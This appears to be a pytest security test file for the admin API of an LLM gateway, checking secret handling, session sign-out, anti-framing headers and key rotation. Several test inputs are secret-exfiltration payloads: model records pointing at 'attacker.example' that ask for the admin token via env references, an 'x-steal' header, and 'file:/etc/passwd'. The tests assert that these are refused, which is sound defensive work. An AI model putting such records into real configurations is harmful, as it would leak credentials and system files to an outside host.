"""The admin trust boundary: model records cannot name the gateway's own secrets (and the
router would not resolve them anyway), admin pages cannot be framed or cached, a signed-out
session is dead, and a rotated key stays rotated."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest
from tests.support.configs import TEST_KEY, gateway_config
from tests.support.fake_openai_server import FakeOpenAIServer
from tests.support.stack import Stack

from tollway_common.control import Deployment, ModelAlias

ADMIN_TOKEN = "tw-admin-hardening-token-0123456789"
CHAT = {"messages": [{"role": "user", "content": "hi"}]}


@pytest.fixture(scope="module")
def admin_url(module_stack: Stack) -> str:
    """One admin for the module's tests that only talk to admin: each writes records of its
    own names, so none sees another's."""
    # Plain http on loopback: the session cookie must not require https here.
    return module_stack.start_admin(ADMIN_TOKEN, TOLLWAY_ADMIN_COOKIE_SECURE="false")


@pytest.fixture
async def admin(admin_url: str) -> AsyncIterator[httpx.AsyncClient]:
    async with httpx.AsyncClient(
        base_url=admin_url, headers={"authorization": f"Bearer {ADMIN_TOKEN}"}
    ) as client:
        yield client


def _exfiltrating_model(api_base: str, **deployment: Any) -> dict[str, Any]:
    fields = {"name": "d", "provider": "openai", "model": "gpt-4o-mini", "api_base": api_base}
    return {"name": "exfil", "deployments": [fields | deployment]}


@pytest.mark.parametrize(
    "deployment",
    [
        {"api_key": "env:TOLLWAY_ADMIN_TOKEN"},
        {"headers": {"x-steal": "env:TOLLWAY_ADMIN_TOKEN"}},
        {"api_key": "file:/etc/passwd"},
    ],
)
async def test_a_model_naming_a_gateway_secret_is_refused_at_write(
    admin: httpx.AsyncClient, deployment: dict[str, Any]
) -> None:
    model = _exfiltrating_model("https://attacker.example/v1", **deployment)
    created = await admin.post("/api/v1/models", json=model)
    assert created.status_code == 400, created.text
    message = created.json()["error"]["message"]
    assert "allowed are env:<NAME>" in message
    assert "TOLLWAY_UPSTREAM_*" in message
    applied = await admin.put("/api/v1/config", json={"models": [model]})
    assert applied.status_code == 400, applied.text
    assert (await admin.get("/api/v1/models/exfil")).status_code == 404


async def test_the_router_does_not_resolve_a_gateway_secret(
    stack: Stack, fake_upstream: FakeOpenAIServer
) -> None:
    # Written past admin (straight into KV), as an anonymous bus client could.
    exfil = ModelAlias(
        name="exfil",
        deployments=[
            Deployment(
                name="d",
                provider="openai",
                model="gpt-4o-mini",
                api_base=fake_upstream.base_url,
                api_key="env:TOLLWAY_ADMIN_TOKEN",
            )
        ],
    )
    stack.apply(gateway_config(stack.workdir, fake_upstream.base_url, extra_models=[exfil]))
    stack.start_router("router-with-token", TOLLWAY_ADMIN_TOKEN=ADMIN_TOKEN)
    async with httpx.AsyncClient(base_url=stack.base_url) as client:
        for _ in range(4):
            response = await client.post(
                "/chat/completions",
                json={**CHAT, "model": "exfil"},
                headers={"authorization": f"Bearer {TEST_KEY}"},
            )
            assert response.status_code == 502, response.text
            assert response.json()["error"]["code"] == "upstream_auth_failed"
    assert not any(ADMIN_TOKEN in str(r.headers) for r in fake_upstream.requests)


async def test_literal_header_values_are_redacted_in_views(admin: httpx.AsyncClient) -> None:
    model = {
        "name": "with-headers",
        "deployments": [
            {
                "name": "d",
                "provider": "fake",
                "model": "m",
                "headers": {"x-org": "org-literal-secret", "x-ref": "env:TOLLWAY_UPSTREAM_ORG"},
            }
        ],
    }
    created = await admin.post("/api/v1/models", json=model)
    assert created.status_code == 201, created.text
    shown = (await admin.get("/api/v1/models/with-headers")).json()
    assert shown["deployments"][0]["headers"] == {
        "x-org": "[redacted]",
        "x-ref": "env:TOLLWAY_UPSTREAM_ORG",
    }
    listed = (await admin.get("/api/v1/models")).text
    assert "org-literal-secret" not in listed


async def test_admin_responses_cannot_be_framed_sniffed_or_cached(
    admin: httpx.AsyncClient,
) -> None:
    for path in ("/admin/login", "/api/v1/models"):
        response = await admin.get(path)
        assert response.headers["content-security-policy"] == "frame-ancestors 'none'"
        assert response.headers["x-frame-options"] == "DENY"
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["cache-control"] == "no-store"
    created = await admin.post("/api/v1/keys", json={"name": "shown-once"})
    assert created.status_code == 201, created.text
    assert created.headers["cache-control"] == "no-store"


async def test_a_session_is_dead_after_sign_out(admin: httpx.AsyncClient) -> None:
    async with httpx.AsyncClient(base_url=str(admin.base_url)) as browser:
        signed_in = await browser.post("/admin/login", data={"token": ADMIN_TOKEN})
        assert signed_in.status_code == 303, signed_in.text
        copied_cookie = browser.cookies["tollway_admin"]
        page = await browser.get("/admin")
        assert page.status_code == 200
        match = re.search(r'name="csrf" value="([^"]+)"', page.text)
        assert match is not None
        out = await browser.post("/admin/logout", data={"csrf": match.group(1)})
        assert out.status_code == 303
    async with httpx.AsyncClient(
        base_url=str(admin.base_url), cookies={"tollway_admin": copied_cookie}
    ) as thief:
        again = await thief.get("/admin")
    assert again.status_code == 303
    assert again.headers["location"].startswith("/admin/login")


async def test_a_rotated_key_cannot_be_revived_by_its_expiry(admin: httpx.AsyncClient) -> None:
    created = await admin.post("/api/v1/keys", json={"name": "to-rotate"})
    key_id = created.json()["key_id"]
    rotated = await admin.post(f"/api/v1/keys/{key_id}/rotate", json={"grace_s": 60})
    assert rotated.status_code == 201, rotated.text
    old = (await admin.get(f"/api/v1/keys/{key_id}")).json()
    for revived in (0, old["expires_at"] + 86400):
        patched = await admin.patch(f"/api/v1/keys/{key_id}", json={"expires_at": revived})
        assert patched.status_code == 400, patched.text
        assert patched.json()["error"]["param"] == "expires_at"
    earlier = await admin.patch(
        f"/api/v1/keys/{key_id}", json={"expires_at": old["expires_at"] - 30}
    )
    assert earlier.status_code == 200, earlier.text
